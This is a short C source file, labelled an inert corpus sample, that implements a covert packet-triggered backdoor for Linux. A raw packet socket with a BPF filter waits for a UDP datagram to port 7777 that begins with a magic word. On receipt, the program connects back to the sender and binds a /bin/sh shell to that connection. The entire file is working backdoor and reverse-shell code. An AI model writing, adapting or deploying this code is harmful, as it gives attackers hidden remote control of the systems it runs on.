/* Corpus sample (inert: compiled, never run). A packet-triggered backdoor written here from
 * scratch: a packet socket sees every UDP datagram before the network stack, a classic BPF
 * filter (compiled with tcpdump, see wake_filter.h) lets through only datagrams to port 7777
 * whose payload starts with a magic word, and such a packet makes the program connect back to
 * its sender and hand it a shell. */
#include <arpa/inet.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "wake_filter.h"

static void call_back(unsigned int address, unsigned short port)
{
	struct sockaddr_in peer;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	memset(&peer, 0, sizeof peer);
	peer.sin_family = AF_INET;
	peer.sin_port = port;
	peer.sin_addr.s_addr = address;
	if (s < 0 || connect(s, (struct sockaddr *)&peer, sizeof peer) != 0)
		_exit(1);
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execl("/bin/sh", "sh", (char *)0);
	_exit(0);
}

int main(void)
{
	struct sock_fprog program = { sizeof wake_filter / sizeof wake_filter[0], (struct sock_filter *)wake_filter };
	unsigned char frame[2048];
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
	if (s < 0 || setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) != 0)
		return 1;
	for (;;) {
		ssize_t n = recv(s, frame, sizeof frame, 0);
		if (n < 54)
			continue;
		unsigned int source;
		unsigned short port;
		memcpy(&source, frame + 26, 4);
		memcpy(&port, frame + 46, 2);
		if (fork() == 0)
			call_back(source, port);
	}
}
